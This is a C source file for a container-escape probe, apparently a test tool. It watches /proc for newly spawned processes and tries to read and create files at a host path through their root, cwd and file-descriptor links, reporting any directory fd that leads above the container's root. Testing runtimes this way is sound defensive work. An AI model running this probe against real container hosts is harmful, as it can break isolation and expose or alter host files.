/* pidwatch MARKER STOPFILE: the attacker of a runtime that lets a new
 * process become visible in the container's pid namespace before its
 * root, cwd and fds are the container's. Run inside a container with
 * CAP_SYS_PTRACE (non-dumpable does not stop that), it polls /proc for pids
 * it has not seen and, for each, tries to reach the host file MARKER
 * (an absolute host path) through
 *   /proc/PID/root/MARKER        and /proc/PID/root/../../..MARKER
 *   /proc/PID/cwd/../../..MARKER
 *   every /proc/PID/fd/N: opened; a directory is walked up to MARKER
 * and to create a file next to it (MARKER.PID.how). Each success is a line
 * "READ how pid: content", "CREATED how pid" or "DIRFD pid fd: target" (a
 * directory fd from which ".." leads above our own root);
 * at the end "seen N" (new pids looked at). Stops when STOPFILE exists
 * (or after 600 s). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "procpids.h"

#define TRIES 4 /* passes a new pid is attacked in */

static unsigned char tries[MAX_PID];
static const char *marker;
static char up[32 * 3 + 1]; /* "../" x 32: to the top from anywhere */
static struct stat own_root;

static void try_read(int dirfd, const char *path, const char *how, int pid)
{
        int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        char buf[128];
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        buf[n > 0 ? n : 0] = '\0';
        buf[strcspn(buf, "\n")] = '\0';
        printf("READ %s %d: %s\n", how, pid, buf);
        fflush(stdout);
}

static void try_create(int dirfd, const char *path, const char *how, int pid)
{
        char p[4200];
        snprintf(p, sizeof p, "%s.%d.%s", path, pid, how);
        int fd = openat(dirfd, p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (fd < 0)
                return;
        close(fd);
        printf("CREATED %s %d\n", how, pid);
        fflush(stdout);
}

/* `base` (a directory reached through the target) walked to the marker. */
static void attack_dir(int dirfd, const char *how, int pid, int dotdot)
{
        char p[4096];
        snprintf(p, sizeof p, "%s%s", dotdot ? up : "", marker + 1);
        try_read(dirfd, p, how, pid);
        try_create(dirfd, p, how, pid);
}

static void attack_fds(int pid)
{
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd", pid);
        DIR *d = opendir(path);
        if (!d)
                return;
        struct dirent *e;
        while ((e = readdir(d))) {
                if (e->d_name[0] == '.')
                        continue;
                char p[300];
                snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, e->d_name);
                int fd = open(p, O_RDONLY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                struct stat st;
                if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
                        attack_dir(fd, "fd", pid, 1);
                        /* A directory of our own tree is no way out: from
                         * it, ".." stops at our root. */
                        int top = openat(fd, up, O_PATH | O_DIRECTORY | O_CLOEXEC);
                        struct stat t;
                        if (top >= 0 && fstat(top, &t) == 0 &&
                            (t.st_dev != own_root.st_dev || t.st_ino != own_root.st_ino)) {
                                char target[256] = "";
                                ssize_t n = readlink(p, target, sizeof target - 1);
                                target[n > 0 ? n : 0] = '\0';
                                printf("DIRFD %d %s: %s\n", pid, e->d_name, target);
                                fflush(stdout);
                        }
                        if (top >= 0)
                                close(top);
                }
                close(fd);
        }
        closedir(d);
}

static void attack(int pid)
{
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/root", pid);
        int fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
                attack_dir(fd, "root", pid, 0);
                attack_dir(fd, "root-up", pid, 1);
                close(fd);
        }
        snprintf(p, sizeof p, "/proc/%d/cwd", pid);
        fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
                attack_dir(fd, "cwd", pid, 1);
                close(fd);
        }
        attack_fds(pid);
}

/* One pass over /proc: every pid not seen at the start gets TRIES attacks. */
static void pass(int first, long *seen)
{
        DIR *d = opendir("/proc");
        if (!d)
                return;
        long pid;
        while ((pid = next_pid(d))) {
                if (first) {
                        tries[pid] = TRIES;
                        continue;
                }
                if (tries[pid] >= TRIES)
                        continue;
                if (tries[pid]++ == 0)
                        (*seen)++;
                attack((int)pid);
        }
        closedir(d);
}

int main(int argc, char **argv)
{
        if (argc != 3 || argv[1][0] != '/') {
                fprintf(stderr, "usage: pidwatch /HOST/MARKER STOPFILE\n");
                return 2;
        }
        marker = argv[1];
        if (stat("/", &own_root) < 0)
                return 2;
        for (int i = 0; i < 32; i++)
                memcpy(up + 3 * i, "../", 3);
        long seen = 0;
        pass(1, &seen);
        int r = open("/tmp/pidwatch.ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (r >= 0)
                close(r);
        time_t end = time(NULL) + 600;
        for (unsigned long n = 0;; n++) {
                pass(0, &seen);
                if ((n & 255) == 0 && (access(argv[2], F_OK) == 0 || time(NULL) > end))
                        break;
        }
        printf("seen %ld\n", seen);
        return 0;
}
